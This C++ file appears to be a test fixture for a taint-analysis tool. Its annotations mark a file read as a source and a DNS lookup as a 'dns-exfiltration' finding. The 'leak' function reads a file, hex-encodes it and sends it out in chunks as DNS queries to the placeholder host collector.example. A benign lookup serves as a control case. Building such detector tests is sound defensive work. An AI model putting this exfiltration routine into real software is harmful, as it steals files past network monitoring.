// --- path: labels.cpp ---
// A file leaves as hexadecimal pieces in names that are looked up.
#include <fstream>
#include <iomanip>
#include <iterator>
#include <netdb.h>
#include <sstream>
#include <string>
#include <vector>

static std::string hex(const std::vector<char> &bytes) {
    std::ostringstream out;
    for (char byte : bytes) {
        out << std::hex << std::setw(2) << static_cast<int>(byte);
    }
    return out.str();
}

static void ask(const std::string &name) {
    struct addrinfo *found = nullptr;
    getaddrinfo(name.c_str(), nullptr, nullptr, &found); //~ sink(egress.dns) f1, finding(dns-exfiltration, traced) f1
}

void leak(const std::string &path) {
    std::ifstream in(path, std::ios::binary); //~ source(FILE) f1
    std::vector<char> bytes((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    std::string text = hex(bytes);
    for (size_t at = 0; at < text.size(); at += 60) {
        ask(text.substr(at, 60) + "." + std::to_string(at) + ".t.collector.example");
    }
}

void resolve(int shard) {
    struct addrinfo *found = nullptr;
    std::string name = "shard" + std::to_string(shard) + ".collector.example";
    getaddrinfo(name.c_str(), nullptr, nullptr, &found); //~ ok
}
